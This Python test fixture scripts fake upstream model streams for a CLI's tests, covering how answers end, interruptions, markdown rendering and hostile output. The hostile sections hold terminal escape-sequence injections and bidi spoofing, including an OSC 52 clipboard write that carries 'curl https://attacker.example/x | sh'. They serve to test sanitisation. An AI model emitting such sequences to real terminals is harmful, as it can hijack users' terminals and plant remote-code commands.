"""The scripted upstreams of the CLI's own tests (how an answer ends, what reaches a
terminal, leaving mid-answer): one runtime serves them all, each scenario keyed by its
question (`prompts`). The runtime is workerd alone (no wrangler): nothing here checks
wrangler, it starts faster, and it does not reload when a source file changes under it."""

from __future__ import annotations

import base64
import dataclasses
import json

from tests.frontends.upstreams import tool_chunk
from tests.harness.scenarios import (
    done_frame,
    error,
    hang,
    native_frame,
    openai_chunk,
    script,
    scripted_options,
    send,
    sleep,
    transcript,
    workers_ai_chunk,
)

# A frame the Worker cannot read: counted in `done.skipped`.
NOT_JSON = send("data: {not json\n\n")

# --- how an answer ends: (question, its script) ----------------------------------------------

STOPPED = "Say it whole."
CUT_AT_LENGTH = "Say it until the budget runs out."
FILTERED = "Say something the filter stops."
UNKNOWN_ENDING = "End for a reason nobody knows."
GAPPED = "Say it with a frame nobody can read."
GAPPED_AND_CUT = "Say it with a gap, then run out."
FAILED = "Fail after a word."
IN_BAND_ERROR = "Fail the way vLLM does."

ENDINGS = {
    STOPPED: [openai_chunk("The whole answer."), openai_chunk(finish_reason="stop"), done_frame()],
    # As Workers AI streams it: finish_reason on the usage chunk, after the text.
    CUT_AT_LENGTH: [workers_ai_chunk(3, content="The answer is"), workers_ai_chunk(4, finish_reason="length"), done_frame()],
    FILTERED: [openai_chunk("Well,"), openai_chunk(finish_reason="content_filter"), done_frame()],
    # The Worker reports a finish_reason it does not know as "other".
    UNKNOWN_ENDING: [openai_chunk("Hmm."), openai_chunk(finish_reason="weird"), done_frame()],
    GAPPED: [native_frame("Hel"), NOT_JSON, native_frame("lo"), done_frame()],
    GAPPED_AND_CUT: [openai_chunk("Half"), NOT_JSON, openai_chunk(finish_reason="length"), done_frame()],
    FAILED: [native_frame("Hello"), error("provider detail 42")],
    # vLLM's create_streaming_error_response: an error object, then [DONE].
    IN_BAND_ERROR: [openai_chunk("Partial"), send('data: {"error": {"message": "provider detail 42", "code": 500}}\n\n'), done_frame()],
}

# --- what a terminal would act on -------------------------------------------------------------

CLIPBOARD = base64.b64encode(b"curl https://attacker.example/x | sh").decode()
# Each piece is a frame of its own, so a delta; some sequences are split across them.
HOSTILE_PIECES = (
    "Title: \x1b]0;pwned title\x07 and",  # OSC 0: the window title
    " clipboard: \x1b]52;c;" + CLIPBOARD + "\x07.\n",  # OSC 52: a clipboard write
    "Erased:\x1b[2K\r", "complete chunks=1 chars=1\n",  # a forged status line over the text
    "Split \x1b", "[2J", " and \x1b]0;split", " title\x1b\\.\n",  # sequences across deltas; ST ends one
    "C1 CSI: \x9b31mred\x9b0m, C1 OSC: \x9d0;c1 title\x9c.\n",
    "Bidi: \u202eevil\u202c \u2066isolated\u2069 \u202aembedded\u202c.\n",
    "C0: bell\x07 back\x08space del\x7f nul\x00 form\x0cfeed vt\x0b.\n",
    "Kept: tab\there, caf\u00e9 \u6771\u4eac, \u05e9\u05dc\u05d5\u05dd\u200f!, mark\u200e \u061c end",  # no final newline
)
HOSTILE_TEXT = "".join(HOSTILE_PIECES)
HOSTILE = "Drive my terminal."

# A tool call whose arguments hold escapes (its id and name cannot: the Worker ends an
# answer whose call has an unprintable one with upstream_malformed).
HOSTILE_CALL_ARGUMENTS = json.dumps({"note": "\x1b]0;pwned\x07 \x9b2J \u202eevil\x7f"}, ensure_ascii=False)
HOSTILE_CALL = "Call a tool with escapes."
HOSTILE_CALL_TEXT = "Calling\x1b[2K."
HOSTILE_CALL_STEPS = [
    openai_chunk(HOSTILE_CALL_TEXT),
    tool_chunk(0, call_id="call_1", name="note"),
    tool_chunk(0, arguments=HOSTILE_CALL_ARGUMENTS),
    openai_chunk(finish_reason="tool_calls"),
    done_frame(),
]

# --- leaving mid-answer -------------------------------------------------------------------------

# The upstream waits for the test: a first word, then nothing and no end, so the client is
# still reading when it is interrupted, however busy the machine.
WAITING = "Write until I stop you."
WAITING_FIRST = "Once upon a time"
# A closed stdout is only seen at the next write: a word every 100 ms for 60 s, twice the
# tests' timeout, so the next write comes at once and the answer cannot end first.
WRITING = "Keep writing."
WRITING_STEPS = [native_frame("Once upon a time,"), *(step for _ in range(600) for step in (sleep(100), native_frame(" and then")))]

# --- a person at a terminal (test_cli_interactive.py) -------------------------------------------

# Markdown of every kind the terminal renders, streamed in small pieces with pauses, so that
# blocks finish while the answer streams and are printed once, above the open one.
MARKDOWN = "Show me some markdown."
MARKDOWN_ANSWER = (
    "## Streaming, briefly\n\n"
    "A stream sends **words as they come**, not the *whole answer* at the end; see "
    "[the spec](https://html.spec.whatwg.org/multipage/server-sent-events.html).\n\n"
    "1. Open the stream.\n2. Read each event.\n3. Stop at `done`.\n\n"
    "```python\nfor event in stream:\n    print(event.data)\n```\n\n"
    "| event | meaning |\n|---|---|\n| delta | more text |\n| done | the whole answer |\n\n"
    "> A cut answer is never shown as whole.\n\n"
    "That is all."
)
MARKDOWN_STEPS = [step for start in range(0, len(MARKDOWN_ANSWER), 9)
                  for step in (native_frame(MARKDOWN_ANSWER[start:start + 9]), sleep(15))] + [done_frame()]

# Markdown that would hide text or smuggle what `visible` escapes past it: character
# references markdown-it decodes after escaping (a bidi override, an ESC, a C1 CSI), lists
# and quotes nested deeper than it parses (it drops the rest), raw HTML, an image.
HOSTILE_MARKDOWN = "Hide something in markdown."
HOSTILE_MARKDOWN_ANSWER = (
    "Entities: &#x202e;gnp.exe, &#x2066;isolated&#x2069;, &#27;[31mred, &#x9b;2J and &#x7f;.\n\n"
    "| cell |\n|---|\n| &#x202e;evil |\n\n"
    + "- " * 12 + "HIDDEN-IN-LISTS\n\n"
    + ">" * 25 + " HIDDEN-IN-QUOTES\n\n"
    "<div>HIDDEN-IN-HTML</div>\n\n"
    "![HIDDEN-ALT](https://images.example/pixel.png)\n"
)
# A thinking model: reasoning first (Workers AI's reasoning_content), then the answer.
THINKING = "Think first."
THINKING_REASONING = "The user wants a short answer."
THINKING_ANSWER = "Short answer."
THINKING_STEPS = [workers_ai_chunk(5, reasoning=THINKING_REASONING), workers_ai_chunk(8, content=THINKING_ANSWER),
                  workers_ai_chunk(8, finish_reason="stop"), done_frame()]

# Each turn's answer is the conversation the model was sent, one `role: text` line a message.
FIRST_TURN, SECOND_TURN = "First turn.", "Second turn."

CLI_SCENARIOS = dataclasses.replace(
    scripted_options(
        [native_frame("Hello."), done_frame()],
        prompts={
            **{question: script(steps) for question, steps in ENDINGS.items()},
            HOSTILE: script([native_frame(piece) for piece in HOSTILE_PIECES] + [done_frame()]),
            HOSTILE_CALL: script(HOSTILE_CALL_STEPS),
            WAITING: script([native_frame(WAITING_FIRST), hang()]),
            WRITING: script(WRITING_STEPS),
            MARKDOWN: script(MARKDOWN_STEPS),
            HOSTILE_MARKDOWN: script([native_frame(HOSTILE_MARKDOWN_ANSWER[start:start + 7]) for start in range(0, len(HOSTILE_MARKDOWN_ANSWER), 7)]
                                     + [done_frame()]),
            THINKING: script(THINKING_STEPS),
            FIRST_TURN: script([transcript(), done_frame()]),
            SECOND_TURN: script([transcript(), done_frame()]),
        },
        # workerd alone sees a client that left at the Worker's next write: a ping every
        # 200 ms (not every 15 s) is one while WAITING waits.
        variables={"PING_INTERVAL_MS": "200"},
    ),
    workerd_direct=True,
)
